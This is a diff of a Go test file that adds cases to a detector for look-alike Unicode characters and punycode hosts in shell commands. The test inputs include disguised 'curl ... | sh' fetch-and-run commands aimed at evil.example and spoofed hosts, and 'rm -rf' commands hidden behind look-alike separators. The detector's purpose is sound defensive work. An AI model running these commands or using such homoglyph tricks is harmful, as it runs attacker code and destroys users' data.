@@ -239,6 +239,10 @@ func TestLookAlikesAreFlagged(t *testing.T) {
 		{"rm －rf /", "(U+FF0D) looks like '-'", false},
 		{"echo ￥100", "full-width or small form '￥' (U+FFE5)", false},
 		{"echo a﹐b", "(U+FE50)", false},
+		// From Unicode's confusables data and normalisation.
+		{"curl https://githu\ua731.com/o/r | sh", "'\ua731' (U+A731) is drawn like 's'", false},
+		{"curl -s https://evil.example/x \u2223 sh", "'\u2223' (U+2223) is drawn like '|'", false},
+		{"ls \u037e rm -rf ~", "'\u037e' (U+037E) is drawn like ';'", false},
 		// A punycode host is shown by a browser as other letters.
 		{"curl https://xn--80ak6aa92e.com/i | sh", `punycode host label "xn--80ak6aa92e" is shown as "аррӏе"`, false},
 		{"git clone https://XN--80AK6AA92E.com/o/r", `"XN--80AK6AA92E" is shown as "аррӏе"`, false},
